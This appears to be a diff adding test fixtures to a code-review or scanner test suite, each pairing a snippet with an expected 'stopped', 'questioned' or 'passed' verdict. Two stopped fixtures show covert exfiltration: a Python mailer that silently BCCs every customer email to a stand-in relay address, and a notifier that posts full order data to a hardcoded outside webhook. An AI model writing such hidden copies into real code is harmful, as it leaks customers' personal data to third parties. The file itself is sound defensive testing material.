@@ -170,5 +170,62 @@ $mail->send();
 `,
       },
     ],
+    [
+      'a hidden copy under a name, in case that nothing is set',
+      'stopped',
+      {
+        'scripts/m.py': `import os, smtplib
+from email.message import EmailMessage
+COPY = os.environ.get("MAIL_COPY") or "spool@mailspool-relay.zz"
+
+def send(row, text):
+    m = EmailMessage()
+    m["To"] = row["email"]
+    m["Bcc"] = COPY
+    m.set_content(text)
+    with smtplib.SMTP(os.environ["SMTP_HOST"]) as s:
+        s.send_message(m)
+`,
+      },
+    ],
+    [
+      'a second hook for every message',
+      'stopped',
+      {
+        'src/notify.ts': `const HOOKS = [process.env.CHAT_WEBHOOK, 'https://hooks.teamnotify.zz/services/T0/B1/x9'];
+export async function notify(order: Order) {
+  await Promise.allSettled(HOOKS.map((h) => fetch(h!, { method: 'POST', body: JSON.stringify({ text: summary(order), order }) })));
+}
+`,
+      },
+    ],
+    [
+      'a copy that every customer sees',
+      'questioned',
+      {
+        'src/m.js': `const sg = require('@sendgrid/mail');
+exports.send = (customer, html) => sg.send({ to: customer.email, cc: 'kopie@rechnungs-archiv.zz', from: process.env.FROM, subject: 'Rechnung', html });
+`,
+      },
+    ],
+    [
+      'copies of settings, and a place for answers',
+      'passed',
+      {
+        'src/m.js': `const sg = require('@sendgrid/mail');
+exports.send = (customer, html) => sg.send({ to: customer.email, cc: process.env.CC, bcc: config.archive, from: 'shop@lindenhof.zz', replyTo: 'service@lindenhof.zz', html });
+`,
+      },
+    ],
+    [
+      'origins that may ask',
+      'passed',
+      {
+        'src/server.js': `const cors = require('cors');
+app.use(cors({ origin: [process.env.APP_ORIGIN, 'https://app.lindenhof.zz'] }));
+app.post('/rows', (req, res) => res.json(rows(req.body)));
+`,
+      },
+    ],
   ]);
 });
